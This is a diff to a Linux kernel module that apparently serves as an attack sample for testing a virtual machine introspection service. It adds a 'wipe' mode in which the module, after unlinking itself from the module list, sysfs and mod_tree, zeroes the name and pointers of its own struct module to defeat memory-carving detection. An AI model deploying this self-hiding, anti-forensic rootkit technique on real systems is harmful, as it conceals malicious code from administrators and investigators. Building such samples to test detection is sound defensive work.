@@ -17,6 +17,11 @@
  * the erase is the kernel's own, under module_mutex like its callers.
  * Only the core nodes are erased: the init ones are do_init_module()'s.
  *
+ * mode=wipe does what mode=tree does, then wipes what carving recognizes
+ * a struct module by: its name, its list pointers and mkobj.mod (nothing
+ * uses them once the module is hidden). Only the module's memory is left,
+ * in vmap areas of the module range that no record of the kernel owns.
+ *
  * The hiding runs from a work item once the module is live, so that
  * do_init_module() (which sends the kobject's ADD uevent after init)
  * is done with it.
@@ -40,7 +45,7 @@
 
 static char *mode = "list";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "list: off the list and sysfs; tree: also off mod_tree");
+MODULE_PARM_DESC(mode, "list: off the list and sysfs; tree: also off mod_tree; wipe: also wipe the struct module");
 
 static unsigned long modtree;
 module_param(modtree, ulong, 0444);
@@ -69,7 +74,8 @@ static void erase_from_tree(void)
 static void hide_fn(struct work_struct *work)
 {
 	struct mutex *lock = (struct mutex *)modmutex;
-	bool tree = !strcmp(mode, "tree");
+	bool wipe = !strcmp(mode, "wipe");
+	bool tree = wipe || !strcmp(mode, "tree");
 	int i;
 
 	for (i = 0; i < 100 && READ_ONCE(THIS_MODULE->state) != MODULE_STATE_LIVE; i++)
@@ -84,6 +90,13 @@ static void hide_fn(struct work_struct *work)
 	kobject_del(&THIS_MODULE->mkobj.kobj);
 	pr_info("hidden from the module list and /sys/module%s\n",
 		tree ? " and mod_tree" : "");
+	if (!wipe)
+		return;
+	memset(THIS_MODULE->name, 0, sizeof(THIS_MODULE->name));
+	THIS_MODULE->list.next = NULL;
+	THIS_MODULE->list.prev = NULL;
+	THIS_MODULE->mkobj.mod = NULL;
+	pr_info("struct module wiped\n");
 }
 
 static DECLARE_WORK(hide_work, hide_fn);
@@ -91,7 +104,8 @@ static DECLARE_WORK(hide_work, hide_fn);
 static int __init vmiaas_attack_hidemod_init(void)
 {
 	if (strcmp(mode, "list") &&
-	    (strcmp(mode, "tree") || !modtree || !modmutex))
+	    ((strcmp(mode, "tree") && strcmp(mode, "wipe")) || !modtree ||
+	     !modmutex))
 		return -EINVAL;
 	schedule_work(&hide_work);
 	return 0;
@@ -99,4 +113,4 @@ static int __init vmiaas_attack_hidemod_init(void)
 
 module_init(vmiaas_attack_hidemod_init);
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("vmiaas test: a module hiding itself (list, sysfs, mod_tree)");
+MODULE_DESCRIPTION("vmiaas test: a module hiding itself (list, sysfs, mod_tree, its struct module)");
